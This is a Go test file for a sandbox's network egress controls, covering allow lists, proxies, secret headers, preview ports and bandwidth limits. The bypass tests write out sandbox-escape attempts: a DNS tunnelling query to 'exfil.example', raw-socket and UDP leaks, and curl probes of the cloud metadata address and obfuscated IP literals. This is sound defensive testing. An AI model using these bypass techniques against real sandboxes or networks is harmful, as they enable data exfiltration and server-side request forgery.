package server_test

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"math/big"
	"net"
	"net/http"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/coder/websocket"
	"github.com/vishvananda/netlink"
	"github.com/vishvananda/netns"

	"github.com/den-dev/den/api"
	"github.com/den-dev/den/client"
	"github.com/den-dev/den/internal/egress"
	"github.com/den-dev/den/internal/image"
	"github.com/den-dev/den/internal/isolate/linux"
	"github.com/den-dev/den/internal/sandbox"
	"github.com/den-dev/den/internal/server"
	"github.com/den-dev/den/internal/store"
)

// The tests' stand-in for the internet: a network namespace the test makes,
// reached from the host through a veth, holding 198.51.100.10 (a
// documentation range the egress servers treat as public in tests only).
const inetAddr = "198.51.100.10"

type inet struct {
	ns   netns.NsHandle
	name string
	host string // the veth's host end
}

func newInet(t *testing.T) *inet {
	t.Helper()
	if _, err := exec.LookPath("nft"); err != nil {
		t.Skip("network tests need nftables (apt-get install nftables)")
	}
	in := &inet{name: fmt.Sprintf("dentinet%d", os.Getpid()%100000), host: fmt.Sprintf("dti%d", os.Getpid()%100000)}
	netns.DeleteNamed(in.name)
	if l, err := netlink.LinkByName(in.host); err == nil {
		netlink.LinkDel(l)
	}
	runtime.LockOSThread()
	orig, _ := netns.Get()
	ns, err := netns.NewNamed(in.name)
	netns.Set(orig)
	runtime.UnlockOSThread()
	if err != nil {
		t.Fatalf("create test namespace: %v", err)
	}
	in.ns = ns
	t.Cleanup(func() {
		if l, err := netlink.LinkByName(in.host); err == nil {
			netlink.LinkDel(l)
		}
		ns.Close()
		netns.DeleteNamed(in.name)
	})
	la := netlink.NewLinkAttrs()
	la.Name = in.host
	if err := netlink.LinkAdd(&netlink.Veth{LinkAttrs: la, PeerName: in.host + "p"}); err != nil {
		t.Fatal(err)
	}
	hostEnd, _ := netlink.LinkByName(in.host)
	peer, _ := netlink.LinkByName(in.host + "p")
	netlink.AddrAdd(hostEnd, &netlink.Addr{IPNet: &net.IPNet{IP: net.ParseIP("198.51.100.1"), Mask: net.CIDRMask(24, 32)}})
	netlink.LinkSetUp(hostEnd)
	if err := netlink.LinkSetNsFd(peer, int(ns)); err != nil {
		t.Fatal(err)
	}
	h, _ := netlink.NewHandleAt(ns)
	defer h.Close()
	p, _ := h.LinkByName(in.host + "p")
	h.AddrAdd(p, &netlink.Addr{IPNet: &net.IPNet{IP: net.ParseIP(inetAddr), Mask: net.CIDRMask(24, 32)}})
	h.LinkSetUp(p)
	lo, _ := h.LinkByName("lo")
	h.LinkSetUp(lo)
	return in
}

// listen opens a listener inside the test namespace.
func (in *inet) listen(t *testing.T, port int) net.Listener {
	t.Helper()
	runtime.LockOSThread()
	defer runtime.UnlockOSThread()
	orig, _ := netns.Get()
	defer netns.Set(orig)
	netns.Set(in.ns)
	ln, err := net.Listen("tcp4", fmt.Sprintf("%s:%d", inetAddr, port))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	return ln
}

func selfSigned(t *testing.T, names ...string) tls.Certificate {
	key, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: names[0]}, DNSNames: names,
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
		IsCA: true, BasicConstraintsValid: true, KeyUsage: x509.KeyUsageDigitalSignature | x509.KeyUsageCertSign}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}
}

// newNetEnv is newEnv with sandbox networking: its own bridge, nftables
// table and egress servers, and a fake resolver for the test names.
func newNetEnv(t *testing.T) (*env, *inet) {
	t.Helper()
	if os.Geteuid() != 0 {
		t.Skip("network tests need root")
	}
	in := newInet(t)
	web := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if n, err := strconv.Atoi(r.URL.Query().Get("bytes")); err == nil && n > 0 {
			w.Write(make([]byte, n))
			return
		}
		io.Copy(io.Discard, r.Body)
		fmt.Fprintf(w, "hello from the test internet, host %s", r.Host)
		if a := r.Header.Get("Authorization"); a != "" {
			fmt.Fprintf(w, ", authorization %s", a)
		}
	})}
	go web.Serve(in.listen(t, 80))
	serverCert := selfSigned(t, "allowed.test", "other.test", "www.allowed.test")
	tlsLn := tls.NewListener(in.listen(t, 443), &tls.Config{Certificates: []tls.Certificate{serverCert}})
	upstreamRoots := x509.NewCertPool()
	leaf, _ := x509.ParseCertificate(serverCert.Certificate[0])
	upstreamRoots.AddCert(leaf)
	go web.Serve(tlsLn)
	echo := in.listen(t, 2222)
	go func() {
		for {
			c, err := echo.Accept()
			if err != nil {
				return
			}
			go func() { io.Copy(c, c); c.Close() }()
		}
	}()
	t.Cleanup(func() { web.Close() })

	// Free ports for the egress servers.
	ports := make([]int, 3)
	lns := make([]net.Listener, 3)
	for i := range ports {
		ln, err := net.Listen("tcp4", "0.0.0.0:0")
		if err != nil {
			t.Fatal(err)
		}
		lns[i], ports[i] = ln, ln.Addr().(*net.TCPAddr).Port
	}
	pc, err := net.ListenPacket("udp4", fmt.Sprintf("0.0.0.0:%d", ports[1]))
	if err != nil {
		t.Fatal(err)
	}
	n := os.Getpid() % 200
	nw, err := linux.NewNetwork(linux.NetworkConfig{
		Bridge: fmt.Sprintf("dent%d", os.Getpid()%100000), Table: fmt.Sprintf("dentest%d", os.Getpid()%100000),
		Subnet:      netip.MustParsePrefix(fmt.Sprintf("10.201.%d.0/24", n)),
		Transparent: ports[0], DNS: ports[1], HTTPProxy: ports[2],
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		exec.Command("nft", "delete", "table", "inet", fmt.Sprintf("dentest%d", os.Getpid()%100000)).Run()
		if l, err := netlink.LinkByName(fmt.Sprintf("dent%d", os.Getpid()%100000)); err == nil {
			netlink.LinkDel(l)
		}
	})

	data := t.TempDir()
	db, err := store.Open(filepath.Join(data, "den.db"))
	if err != nil {
		t.Fatal(err)
	}
	imgs, _ := image.NewStore(filepath.Join(data, "images"))
	rt, err := linux.New(linux.Config{RunDir: fmt.Sprintf("/run/den-e2e/%d-net", os.Getpid()), CgroupName: "den-e2e", Network: nw})
	if err != nil {
		t.Fatal(err)
	}
	e := &env{db: db, data: data, rt: rt}
	log := slog.New(slog.NewTextHandler(io.Discard, nil))
	m, err := sandbox.New(context.Background(), sandbox.Config{
		DataDir: data, Runtime: rt, Store: db, Images: imgs, Log: log,
		Defaults: api.Limits{Memory: 512 << 20, Pids: 512},
		Egress:   &sandbox.Egress{Gateway: nw.Gateway(), HTTPProxy: ports[2], AddrSlot: nw.Slot, SlotAddr: nw.Addr},
	})
	if err != nil {
		t.Fatal(err)
	}
	e.m = m
	names := map[string][]netip.Addr{
		"allowed.test":     {netip.MustParseAddr(inetAddr)},
		"www.allowed.test": {netip.MustParseAddr(inetAddr)},
		"other.test":       {netip.MustParseAddr(inetAddr)},
		"private.test":     {netip.MustParseAddr("10.1.2.3")},
		"metadata.test":    {netip.MustParseAddr("169.254.169.254")},
	}
	eg := egress.New(egress.Config{
		Sandbox: m.SandboxForAddr, Log: m.NetEvent,
		Public: []netip.Prefix{netip.MustParsePrefix("198.51.100.0/24")},
		Deny:   []netip.Prefix{nw.Subnet()},
		CA:     m.SandboxCA, Attribute: m.Attribute,
		UpstreamTLS: &tls.Config{RootCAs: upstreamRoots},
		Resolve: func(ctx context.Context, name string) ([]netip.Addr, error) {
			if a, ok := names[strings.TrimSuffix(strings.ToLower(name), ".")]; ok {
				return a, nil
			}
			return nil, fmt.Errorf("no such host %s", name)
		},
	})
	go eg.ServeTransparent(lns[0])
	go eg.ServeDNS(pc, lns[1])
	go eg.ServeProxy(lns[2])
	e.sock = filepath.Join(data, "den.sock")
	ln, err := net.Listen("unix", e.sock)
	if err != nil {
		t.Fatal(err)
	}
	e.http = &http.Server{Handler: server.New(m, db, log, "test", rt.CgroupVersion())}
	go e.http.Serve(ln)
	e.c = client.New("unix://" + e.sock)
	t.Cleanup(func() {
		all, _ := m.List(context.Background(), nil)
		for _, s := range all {
			m.Remove(context.Background(), s.ID, true)
		}
		e.stop()
		eg.Close()
		db.Close()
	})
	return e, in
}

// curl runs curl in the sandbox and returns its output (stdout+stderr) and exit code.
func curl(t *testing.T, e *env, id string, args ...string) (string, int) {
	t.Helper()
	r, err := e.c.Exec(context.Background(), id, api.ExecRequest{Cmd: append([]string{"curl", "-sS", "--max-time", "5"}, args...), Timeout: api.Duration(20 * time.Second)})
	if err != nil {
		t.Fatalf("curl %v: %v", args, err)
	}
	return string(r.Stdout) + string(r.Stderr), r.ExitCode
}

func TestNetworkPolicy(t *testing.T) {
	e, _ := newNetEnv(t)
	ctx := context.Background()
	// The default: loopback only.
	plain := e.create(t, api.CreateRequest{})
	if out, code := curl(t, e, plain.ID, "--noproxy", "*", "http://"+inetAddr+"/"); code == 0 {
		t.Fatalf("a sandbox without network reached the internet: %s", out)
	}
	sb := e.create(t, api.CreateRequest{Network: &api.NetworkPolicy{Mode: api.NetAllow, Allow: []string{"allowed.test", "*.allowed.test"}}})
	if sb.Address == "" {
		t.Fatalf("networked sandbox has no address: %+v", sb)
	}
	// A program ignoring proxy variables goes through the transparent proxy.
	if out, code := curl(t, e, sb.ID, "--noproxy", "*", "http://allowed.test/"); code != 0 || !strings.Contains(out, "hello from the test internet") {
		t.Fatalf("allowed name, transparent: %d %s", code, out)
	}
	if out, code := curl(t, e, sb.ID, "--noproxy", "*", "-k", "https://www.allowed.test/"); code != 0 || !strings.Contains(out, "hello") {
		t.Fatalf("allowed name over TLS (SNI): %d %s", code, out)
	}
	// Through HTTP(S)_PROXY, which den sets.
	if out, code := curl(t, e, sb.ID, "-k", "https://allowed.test/"); code != 0 || !strings.Contains(out, "hello") {
		t.Fatalf("allowed name via the explicit proxy: %d %s", code, out)
	}
	denied := map[string][]string{
		"other name":          {"--noproxy", "*", "http://other.test/"},
		"IP literal":          {"--noproxy", "*", "http://" + inetAddr + "/"},
		"decimal literal":     {"http://3325256714/"},
		"private resolution":  {"--noproxy", "*", "http://private.test/"},
		"metadata":            {"--noproxy", "*", "http://169.254.169.254/"},
		"gateway":             {"--noproxy", "*", "http://" + netip.MustParseAddr(sb.Address).Prev().String() + ":22/"},
		"look-alike":          {"--noproxy", "*", "--resolve", "evilallowed.test:80:" + inetAddr, "http://evilallowed.test/"},
		"spoofed SNI":         {"--noproxy", "*", "-k", "--resolve", "allowed.test:443:10.1.2.3", "https://allowed.test/"},
		"raw tcp":             {"--noproxy", "*", "telnet://" + inetAddr + ":2222"},
		"proxy to IP literal": {"-x", "", "--proxy", "http://" + netip.MustParseAddr(sb.Address).Prev().String() + ":1", "http://0x7f000001/"},
	}
	for what, args := range denied {
		if what == "spoofed SNI" {
			// The proxy dials the address it resolved itself, not 10.1.2.3: allowed, and safe.
			if out, code := curl(t, e, sb.ID, args...); code != 0 || !strings.Contains(out, "hello") {
				t.Errorf("%s: the proxy should dial the checked address: %d %s", what, code, out)
			}
			continue
		}
		if out, code := curl(t, e, sb.ID, args...); code == 0 && strings.Contains(out, "hello") {
			t.Errorf("%s: reached the server: %s", what, out)
		}
	}
	// Another sandbox is not reachable.
	other := e.create(t, api.CreateRequest{Network: &api.NetworkPolicy{Mode: api.NetOpen}})
	if out, code := curl(t, e, sb.ID, "--noproxy", "*", "http://"+other.Address+":80/"); code == 0 {
		t.Errorf("reached another sandbox: %s", out)
	}
	// The audit log explains: allowed and denied, with reasons.
	evs, err := e.c.Events(ctx, client.EventFilter{Sandbox: sb.ID, Type: "net."})
	if err != nil {
		t.Fatal(err)
	}
	var allows, denies int
	for _, ev := range evs {
		var d egress.Event
		json.Unmarshal(ev.Data, &d)
		switch d.Verdict {
		case "allow":
			allows++
		case "deny":
			denies++
			if d.Reason == "" {
				t.Errorf("deny without a reason: %s", ev.Data)
			}
		}
	}
	if allows < 3 || denies < 5 {
		t.Fatalf("audit: %d allows, %d denies in %d events", allows, denies, len(evs))
	}
	// Live changes: open lets other.test through; none cuts everything.
	if _, err := e.c.SetNetwork(ctx, sb.ID, api.NetworkPolicy{Mode: api.NetOpen}); err != nil {
		t.Fatal(err)
	}
	if out, code := curl(t, e, sb.ID, "--noproxy", "*", "http://other.test/"); code != 0 || !strings.Contains(out, "hello") {
		t.Fatalf("open mode: %d %s", code, out)
	}
	if out, code := curl(t, e, sb.ID, "--noproxy", "*", "http://private.test/"); code == 0 {
		t.Fatalf("open mode reached a private address: %s", out)
	}
	if _, err := e.c.SetNetwork(ctx, sb.ID, api.NetworkPolicy{Mode: api.NetNone}); err != nil {
		t.Fatal(err)
	}
	if out, code := curl(t, e, sb.ID, "--noproxy", "*", "http://allowed.test/"); code == 0 {
		t.Fatalf("none mode still reaches out: %s", out)
	}
	// A plain sandbox gains a network live.
	if _, err := e.c.SetNetwork(ctx, plain.ID, api.NetworkPolicy{Mode: api.NetAllow, Allow: []string{"allowed.test"}}); err != nil {
		t.Fatal(err)
	}
	if out, code := curl(t, e, plain.ID, "--noproxy", "*", "http://allowed.test/"); code != 0 {
		t.Fatalf("after a live attach: %d %s", code, out)
	}
	// Bad policies: clear errors.
	for _, bad := range []api.NetworkPolicy{{Mode: "sometimes"}, {Mode: api.NetAllow, Allow: []string{"exa mple.com"}}, {Mode: api.NetAllow, AllowCIDR: []string{"10.0.0.0/33"}}} {
		_, err := e.c.SetNetwork(ctx, sb.ID, bad)
		wantKind(t, err, api.KindInvalid)
	}
}

// Bypasses a sandbox might try: DNS tunnelling, raw and packet sockets,
// IPv6, UDP other than DNS. Each is refused, and the sandbox keeps working.
func TestNetworkBypasses(t *testing.T) {
	e, in := newNetEnv(t)
	sb := e.create(t, api.CreateRequest{Network: &api.NetworkPolicy{Mode: api.NetAllow, Allow: []string{"allowed.test"}}})
	// A UDP listener on the test internet: nothing may arrive there.
	runtime.LockOSThread()
	orig, _ := netns.Get()
	netns.Set(in.ns)
	udp, err := net.ListenPacket("udp4", inetAddr+":9999")
	netns.Set(orig)
	runtime.UnlockOSThread()
	if err != nil {
		t.Fatal(err)
	}
	defer udp.Close()
	got := make(chan string, 1)
	go func() {
		buf := make([]byte, 100)
		udp.SetReadDeadline(time.Now().Add(30 * time.Second))
		if n, _, err := udp.ReadFrom(buf); err == nil {
			got <- string(buf[:n])
		}
		close(got)
	}()
	script := `
import socket, struct
def q(name, qtype):
    pkt = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        pkt += bytes([len(label)]) + label.encode()
    pkt += b"\0" + struct.pack(">HH", qtype, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
    s.sendto(pkt, ("8.8.8.8", 53))
    r = s.recv(512)
    return r[3] & 0x0f, struct.unpack(">H", r[6:8])[0]
print("txt", q("allowed.test", 16))
print("tunnel", q("a"*60 + ".b"*20 + ".exfil.example", 1))
print("a", q("allowed.test", 1))
print("other", q("other.test", 1))
for fam, typ, proto, what in ((socket.AF_PACKET, socket.SOCK_RAW, 0, "packet"), (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP, "raw")):
    try:
        socket.socket(fam, typ, proto); print(what, "open")
    except PermissionError:
        print(what, "denied")
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.sendto(b"leak", ("` + inetAddr + `", 9999))
try:
    s6 = socket.create_connection(("2001:db8::1", 80), timeout=2); print("v6 open")
except OSError:
    print("v6 failed")
`
	r, err := e.c.Exec(context.Background(), sb.ID, api.ExecRequest{Cmd: []string{"python3", "-c", script}, Timeout: api.Duration(30 * time.Second)})
	if err != nil {
		t.Fatal(err)
	}
	udp.SetReadDeadline(time.Now().Add(500 * time.Millisecond)) // the datagram had its chance
	out := string(r.Stdout)
	// rcode 5 = REFUSED; rcode 0 with answers for an allowed A query.
	for _, want := range []string{"txt (5, 0)", "tunnel (5, 0)", "a (0, 1)", "other (5, 0)", "packet denied", "raw denied", "v6 failed"} {
		if !strings.Contains(out, want+"\n") {
			t.Errorf("want %q in:\n%s%s", want, out, r.Stderr)
		}
	}
	if msg, ok := <-got; ok {
		t.Fatalf("a UDP datagram left the sandbox: %q", msg)
	}
	if out, code := curl(t, e, sb.ID, "--noproxy", "*", "http://allowed.test/"); code != 0 || !strings.Contains(out, "hello") {
		t.Fatalf("the sandbox stopped working: %d %s", code, out)
	}
}

// Shared ports: a server bound only to the sandbox's loopback is reached
// through den's reverse proxy (HTTP and WebSocket), private by default.
func TestPreviewPorts(t *testing.T) {
	e := newEnv(t)
	ctx := context.Background()
	sb := e.create(t, api.CreateRequest{})
	srv := e.startProc(t, sb.ID, `exec python3 -c '
import http.server
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        b = ("path=" + self.path + " host=" + self.headers.get("Host", "")).encode()
        self.send_response(200); self.send_header("Content-Length", str(len(b))); self.end_headers(); self.wfile.write(b)
    def log_message(self, *a): pass
http.server.HTTPServer(("127.0.0.1", 8000), H).serve_forever()
'`)
	_ = srv
	var p api.Preview
	for i := 0; i < 50; i++ { // wait for the server to listen
		r := e.sh(t, sb.ID, "python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", 8000), 1)' 2>/dev/null && echo up")
		if string(r.Stdout) == "up\n" {
			break
		}
		time.Sleep(100 * time.Millisecond)
	}
	status, b := e.raw(t, "POST", "/v1/sandboxes/"+sb.ID+"/ports", strings.NewReader(`{"port": 8000}`))
	if status != 201 || json.Unmarshal(b, &p) != nil || p.Token == "" || p.Public {
		t.Fatalf("share: %d %s", status, b)
	}
	if status, b := e.raw(t, "GET", p.Path+"hello?x=1", nil); status != 401 {
		t.Fatalf("private preview without a token: %d %s", status, b)
	}
	status, b = e.raw(t, "GET", p.Path+"hello?x=1&den_token="+p.Token, nil)
	if status != 200 || !strings.HasPrefix(string(b), "path=/hello?x=1 ") {
		t.Fatalf("preview: %d %s", status, b)
	}
	if status, _ := e.raw(t, "GET", p.Path+"?den_token=wrong", nil); status != 401 {
		t.Fatalf("wrong token: %d", status)
	}
	// Public: no token; unshare: gone.
	e.raw(t, "POST", "/v1/sandboxes/"+sb.ID+"/ports", strings.NewReader(`{"port": 8000, "public": true}`))
	if status, _ := e.raw(t, "GET", p.Path, nil); status != 200 {
		t.Fatalf("public preview: %d", status)
	}
	if status, _ := e.raw(t, "DELETE", "/v1/sandboxes/"+sb.ID+"/ports/8000", nil); status != 204 {
		t.Fatalf("unshare: %d", status)
	}
	if status, _ := e.raw(t, "GET", p.Path, nil); status != 404 {
		t.Fatalf("after unshare: %d", status)
	}
	// Raw TCP (den forward) over a WebSocket.
	hc := &http.Client{Transport: &http.Transport{DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
		return net.Dial("unix", e.sock)
	}}}
	c, _, err := websocket.Dial(ctx, "ws://den/v1/sandboxes/"+sb.ID+"/ports/8000/tcp", &websocket.DialOptions{HTTPClient: hc})
	if err != nil {
		t.Fatal(err)
	}
	c.Write(ctx, websocket.MessageBinary, []byte("GET /raw HTTP/1.0\r\n\r\n"))
	var got strings.Builder
	for !strings.Contains(got.String(), "path=/raw") {
		_, msg, err := c.Read(ctx)
		if err != nil {
			t.Fatalf("tcp forward: %v (got %q)", err, got.String())
		}
		got.Write(msg)
	}
	c.CloseNow()
	if status, _ := e.raw(t, "GET", "/v1/sandboxes/"+sb.ID+"/ports/9/tcp", nil); status != 409 {
		t.Fatalf("a closed port: %d", status)
	}
}

// Secret headers: the proxy adds them to HTTPS requests for their host;
// the value appears nowhere in the sandbox.
func TestSecretHeaders(t *testing.T) {
	e, _ := newNetEnv(t)
	ctx := context.Background()
	const secret = "s3cr3t-token-value-9f2c"
	if status, b := e.raw(t, "PUT", "/v1/secrets/API_TOKEN", strings.NewReader(secret)); status != 204 {
		t.Fatalf("set secret: %d %s", status, b)
	}
	status, b := e.raw(t, "GET", "/v1/secrets", nil)
	if status != 200 || strings.Contains(string(b), secret) || !strings.Contains(string(b), "API_TOKEN") {
		t.Fatalf("list secrets: %d %s", status, b)
	}
	sb := e.create(t, api.CreateRequest{Network: &api.NetworkPolicy{
		Mode: api.NetAllow, Allow: []string{"allowed.test", "other.test"},
		SecretHeaders: []api.SecretHeader{{Host: "allowed.test", Header: "Authorization", Value: "Bearer ${API_TOKEN}"}},
	}})
	// Through the transparent proxy (no proxy variables) and through HTTPS_PROXY.
	for _, args := range [][]string{{"--noproxy", "*", "https://allowed.test/"}, {"https://allowed.test/"}} {
		out, code := curl(t, e, sb.ID, args...)
		if code != 0 || !strings.Contains(out, "authorization Bearer "+secret) {
			t.Fatalf("secret header via %v: %d %s", args, code, out)
		}
	}
	// A sandbox-supplied Authorization is replaced; other hosts get nothing.
	if out, _ := curl(t, e, sb.ID, "--noproxy", "*", "-H", "Authorization: Bearer forged", "https://allowed.test/"); !strings.Contains(out, secret) || strings.Contains(out, "forged") {
		t.Fatalf("header replacement: %s", out)
	}
	if out, _ := curl(t, e, sb.ID, "--noproxy", "*", "-k", "https://other.test/"); strings.Contains(out, "authorization") {
		t.Fatalf("secret sent to another host: %s", out)
	}
	// The secret is nowhere inside: checked from the host, so the check
	// itself does not carry it in: the sandbox's files (its writable
	// layers) and every process's environment and command line.
	filepath.WalkDir(filepath.Join(e.data, "sandboxes", sb.ID, "upper"), func(p string, d os.DirEntry, err error) error {
		if err == nil && d.Type().IsRegular() {
			if b, _ := os.ReadFile(p); strings.Contains(string(b), secret) {
				t.Errorf("the secret is in the sandbox's file %s", p)
			}
		}
		return nil
	})
	e.sh(t, sb.ID, "sleep 30 >/dev/null 2>&1 &") // a process to look at besides the agent
	ns, _ := os.Readlink(fmt.Sprintf("/proc/%d/ns/pid", sb.Pid))
	ents, _ := os.ReadDir("/proc")
	seen := 0
	for _, ent := range ents {
		if l, _ := os.Readlink("/proc/" + ent.Name() + "/ns/pid"); l != ns {
			continue
		}
		seen++
		for _, f := range []string{"environ", "cmdline"} {
			if b, _ := os.ReadFile("/proc/" + ent.Name() + "/" + f); strings.Contains(string(b), secret) {
				t.Errorf("the secret is in /proc/%s/%s of a sandbox process", ent.Name(), f)
			}
		}
	}
	if seen < 2 {
		t.Fatalf("looked at %d sandbox processes", seen)
	}
	// The sandbox record keeps the reference, not the value.
	got, _ := e.c.Get(ctx, sb.ID)
	if doc, _ := json.Marshal(got); strings.Contains(string(doc), secret) {
		t.Fatalf("the API shows the secret: %s", doc)
	}
	// Connections are attributed to the exec that made them.
	evs, _ := e.c.Events(ctx, client.EventFilter{Sandbox: sb.ID, Type: "net.connect"})
	attributed := 0
	for _, ev := range evs {
		var d egress.Event
		json.Unmarshal(ev.Data, &d)
		if strings.Contains(d.Process, "curl") {
			attributed++
		}
		if strings.Contains(string(ev.Data), secret) {
			t.Fatalf("the audit log holds the secret: %s", ev.Data)
		}
	}
	if attributed == 0 {
		t.Fatalf("no connection attributed to its process in %d events", len(evs))
	}
	// An unknown secret reference is refused up front.
	_, err := e.c.Create(ctx, api.CreateRequest{Network: &api.NetworkPolicy{Mode: api.NetAllow, Allow: []string{"allowed.test"},
		SecretHeaders: []api.SecretHeader{{Host: "allowed.test", Header: "Authorization", Value: "${NO_SUCH_SECRET_X}"}}}})
	wantKind(t, err, api.KindInvalid)
}

// Per-sandbox limits: connection rate, total egress bytes, bandwidth.
func TestNetworkLimits(t *testing.T) {
	e, _ := newNetEnv(t)
	ctx := context.Background()
	allow := []string{"allowed.test"}
	// Connection rate: 2 per second; a burst of 8 gets some refused.
	rl := e.create(t, api.CreateRequest{Network: &api.NetworkPolicy{Mode: api.NetAllow, Allow: allow, ConnRate: 2}})
	r := e.sh(t, rl.ID, "ok=0; for i in 1 2 3 4 5 6 7 8; do curl -s --noproxy '*' --max-time 3 http://allowed.test/ | grep -q hello && ok=$((ok+1)); done; echo $ok")
	if n, _ := strconv.Atoi(strings.TrimSpace(string(r.Stdout))); n < 1 || n > 5 {
		t.Fatalf("with conn_rate 2/s, %d of 8 immediate connections succeeded", n)
	}
	// Egress bytes: a 4 KB upload passes the 2 KB limit; the next is refused.
	eb := e.create(t, api.CreateRequest{Network: &api.NetworkPolicy{Mode: api.NetAllow, Allow: allow, MaxEgress: 2048}})
	curl(t, e, eb.ID, "--noproxy", "*", "--data-binary", "@/usr/share/common-licenses/GPL-3", "http://allowed.test/")
	if out, code := curl(t, e, eb.ID, "--noproxy", "*", "http://allowed.test/"); code == 0 && strings.Contains(out, "hello") {
		t.Fatalf("past max_egress: %s", out)
	}
	evs, _ := e.c.Events(ctx, client.EventFilter{Sandbox: eb.ID, Type: "net.connect"})
	found := false
	for _, ev := range evs {
		found = found || strings.Contains(string(ev.Data), "egress byte limit")
	}
	if !found {
		t.Fatal("no event explains the egress byte limit")
	}
	// Bandwidth: 300 KB at 100 KB/s takes about 3 s.
	bw := e.create(t, api.CreateRequest{Network: &api.NetworkPolicy{Mode: api.NetAllow, Allow: allow, Bandwidth: 100 << 10}})
	start := time.Now()
	out, code := curl(t, e, bw.ID, "--noproxy", "*", "--max-time", "20", "-o", "/dev/null", "-w", "%{size_download}", "http://allowed.test/?bytes=307200")
	if d := time.Since(start); code != 0 || strings.TrimSpace(out) != "307200" || d < 2*time.Second || d > 15*time.Second {
		t.Fatalf("300 KB at 100 KB/s: code %d, %q bytes, %v", code, out, d)
	}
	// Lifting the limit live makes it fast.
	if _, err := e.c.SetNetwork(ctx, bw.ID, api.NetworkPolicy{Mode: api.NetAllow, Allow: allow}); err != nil {
		t.Fatal(err)
	}
	start = time.Now()
	if out, code := curl(t, e, bw.ID, "--noproxy", "*", "-o", "/dev/null", "-w", "%{size_download}", "http://allowed.test/?bytes=307200"); code != 0 || time.Since(start) > 2*time.Second {
		t.Fatalf("without the limit: %d %s %v", code, out, time.Since(start))
	}
}
